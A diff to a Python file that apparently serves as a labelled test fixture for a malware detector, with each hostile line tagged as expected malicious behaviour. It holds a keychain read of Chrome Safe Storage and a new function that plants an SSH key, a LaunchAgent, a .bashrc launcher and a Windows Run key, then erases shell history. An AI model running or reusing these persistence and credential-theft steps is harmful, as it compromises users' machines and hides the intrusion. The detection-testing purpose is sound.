@@ -1,6 +1,7 @@
 import os
 import socket
 import subprocess
+import winreg
 from pathlib import Path
 
 
@@ -35,3 +36,16 @@ def shell() -> None:
 def kept(account: str) -> bytes:
     command = ["/usr/bin/security", "find-generic-password", "-s", "Chrome Safe Storage", "-a", account, "-w"]
     return subprocess.run(command, capture_output=True).stdout  # expect: malicious-behaviour
+
+
+def stay() -> None:
+    keys = Path.home() / ".ssh" / "authorized_keys"
+    keys.write_text("ssh-ed25519 AAAA x@y\n")  # expect: malicious-behaviour
+    agent = Path.home().joinpath("Library/LaunchAgents/io.x.plist")
+    agent.write_bytes(b"")  # expect: malicious-behaviour
+    with Path("~/.bashrc").expanduser().open("a") as file:  # expect: malicious-behaviour
+        file.write("\n(nohup /tmp/.x &)\n")
+    run = r"Software\Microsoft\Windows\CurrentVersion\Run"
+    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, run, 0, winreg.KEY_SET_VALUE) as key:
+        winreg.SetValueEx(key, "upd", 0, winreg.REG_SZ, "x.exe")  # expect: malicious-behaviour
+    open(os.path.expanduser("~/.bash_history"), "w").close()  # expect: malicious-behaviour
